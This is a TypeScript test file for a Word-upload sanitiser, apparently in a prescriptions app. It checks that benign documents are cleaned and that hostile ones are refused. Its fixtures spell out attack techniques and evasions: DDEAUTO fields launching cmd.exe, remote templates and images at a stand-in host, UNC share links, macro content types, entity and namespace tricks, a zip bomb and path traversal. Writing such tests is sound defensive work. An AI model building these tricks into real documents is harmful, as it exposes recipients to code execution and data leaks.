import { strFromU8, strToU8, unzipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { plainDocx } from '#server/services/uploads/word/read-docx.ts';
import { aDocxWith, aField, link, relsOf, type DocxMaking } from './support/docx-files.ts';
import { aDoc, aPhoto } from './support/files.ts';
import { isPlainDoc } from '#server/services/uploads/word/doc.ts';

/** UTF-16 with a byte order mark. */
function wide(text: string): Uint8Array {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

describe('a Word document', () => {
  // prescriptions-31
  it('with links, a picture, page numbers and dates is accepted and rewritten', async () => {
    const picture = await aPhoto();
    const making: DocxMaking = {
      body: `${aField(' PAGE ')}${aField(' HYPERLINK ', '"https://clinic.example" ')}<w:p><w:fldSimple w:instr=" DATE "/></w:p>`,
      links: [
        link('image', 'media/image1.jpg'),
        link('hyperlink', 'https://clinic.example', true),
        link('hyperlink', 'mailto:doctor@clinic.example', true),
        link('styles', 'styles.xml'),
      ],
      files: { 'word/media/image1.jpg': picture, 'word/styles.xml': '<s/>' },
    };
    const kept = plainDocx(aDocxWith(making));
    const parts = unzipSync(kept ?? new Uint8Array());
    expect(strFromU8(parts['word/document.xml'] ?? new Uint8Array())).toContain('Tab. Napa 500 mg');
    expect(Object.keys(parts)[0]).toBe('[Content_Types].xml');
  });

  // prescriptions-65
  it('keeps only the pictures of its photos', async () => {
    const picture = await aPhoto();
    expect(picture.includes('CanaryCam')).toBe(true);
    const kept = plainDocx(aDocxWith({ files: { 'word/media/image1.jpg': picture } }));
    const inside = Buffer.from(unzipSync(kept ?? new Uint8Array())['word/media/image1.jpg'] ?? []);
    expect(inside.includes('CanaryCam')).toBe(false);
    expect(inside.length).toBe(picture.length);
    const pixels = (file: Buffer) => sharp(file).raw().toBuffer();
    expect((await pixels(inside)).equals(await pixels(picture))).toBe(true);
  });

  it('may have a drawing’s position in an attribute of any length', () => {
    const body = `<v:shape xmlns:v="v" gfxdata="${'A'.repeat(300_000)}"/>`;
    expect(plainDocx(aDocxWith({ body }))).not.toBeNull();
  });

  it('is rewritten the same way every time', () => {
    const once = plainDocx(aDocxWith());
    expect(once).not.toBeNull();
    expect(plainDocx(aDocxWith())).toEqual(once);
  });
});

describe('a hostile Word document is refused', () => {
  const remote = link('attachedTemplate', 'https://bad.example/a.dotm', true);
  const hostile: [string, DocxMaking][] = [
    [
      'with a template from elsewhere',
      { files: { 'word/_rels/settings.xml.rels': relsOf(`<Relationship Id="r1" ${remote}/>`) } },
    ],
    ['with a template', { links: [link('attachedTemplate', 'a.dotx')] }],
    ['with a picture from elsewhere', { links: [link('image', 'https://bad.example/a', true)] }],
    [
      'with a picture from elsewhere, in other letters',
      {
        links: [
          'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/image" Target="\\\\bad.example\\a" TargetMode="&#69;xternal"',
        ],
      },
    ],
    [
      'with a link whose part is in capitals',
      { files: { 'WORD/_RELS/HEADER1.XML.RELS': relsOf(`<Relationship Id="r1" ${remote}/>`) } },
    ],
    [
      'with a link in UTF-16',
      { files: { 'word/_rels/a.xml.rels': wide(`<r><Relationship ${remote}/></r>`) } },
    ],
    [
      'with a link that only a document type writes',
      {
        files: {
          'word/_rels/a.xml.rels': `<!DOCTYPE r [<!ENTITY e "External">]><r><Relationship Type="a/image" Target="//bad.example" TargetMode="&e;"/></r>`,
        },
      },
    ],
    [
      'with a link in disguise',
      {
        files: {
          'word/_rels/a.xml.rels': `<r xmlns:x="x"><Relationship Type="a/image" Target="//bad.example" TargetMode="External" x:TargetMode="Internal" x:Target="a"/></r>`,
        },
      },
    ],
    [
      'with a link to a file of the reader',
      { links: [link('hyperlink', 'file:///c:/a.exe', true)] },
    ],
    ['with a link to a share', { links: [link('hyperlink', '\\\\bad.example\\a', true)] }],
    ['with another file in it', { links: [link('oleObject', 'embeddings/a.bin')] }],
    ['with a table of another program', { links: [link('package', 'embeddings/a.xlsx')] }],
    ['with another document', { links: [link('aFChunk', 'a.html')] }],
    ['with a control', { links: [link('control', 'a.xml')] }],
    [
      'with macros by another name',
      {
        types:
          '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      },
    ],
    [
      'that calls itself one with macros',
      {
        types:
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      },
    ],
    ['with a field that starts a program', { body: aField(' DDEAUTO c:\\\\cmd.exe') }],
    ['with such a field in pieces', { body: aField(' D', 'DE', 'AUTO c:\\\\cmd.exe') }],
    ['with such a field in one element', { body: '<w:fldSimple w:instr=" DDE a b "/>' }],
    [
      'with such a field whose name another field writes',
      {
        body: `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${aField(' SET x ')}<w:r><w:instrText> c:\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      },
    ],
    [
      'with a field that fetches a picture',
      { body: aField(' INCLUDEPICTURE "https://bad.example"') },
    ],
    [
      'with a field in its footer',
      { files: { 'word/footer1.xml': `<f xmlns:w="w">${aField(' INCLUDETEXT a')}</f>` } },
    ],
    [
      'with a drawn picture from elsewhere',
      { body: '<v:imagedata xmlns:v="v" src="https://bad.example/a.png"/>' },
    ],
    ['with a document that is no XML', { files: { 'word/document.xml': '<w:document><' } }],
    ['with two parts of one name', { files: { 'Word/Document.xml': '<a/>' } }],
    ['without a list of types', { files: { '[Content_Types].xml': '' } }],
    ['that climbs out', { files: { '../a': 'a' } }],
  ];

  // prescriptions-31
  it.each(hostile)('%s', (_, making) => {
    expect(plainDocx(aDocxWith())).not.toBeNull();
    expect(plainDocx(aDocxWith(making))).toBeNull();
  });

  it('that unpacks to far more than its size', () => {
    const bomb = new Uint8Array(80 * 1024 * 1024);
    expect(plainDocx(aDocxWith({ files: { 'word/a.bin': bomb } }))).toBeNull();
  });

  it('with more files than its list names loses those', () => {
    const hidden = strToU8('CanaryPart');
    const whole = aDocxWith();
    const kept = plainDocx(Buffer.concat([hidden, whole]));
    expect(kept === null || !Buffer.from(kept).includes('CanaryPart')).toBe(true);
  });

  it.each(['_VBA_PROJECT', 'macros', 'ObjectPool', 'DDEAUTO'])(
    'of the older kind, with %s',
    (name) => {
      expect(isPlainDoc(aDoc())).toBe(true);
      expect(isPlainDoc(aDoc(name))).toBe(false);
    },
  );
});
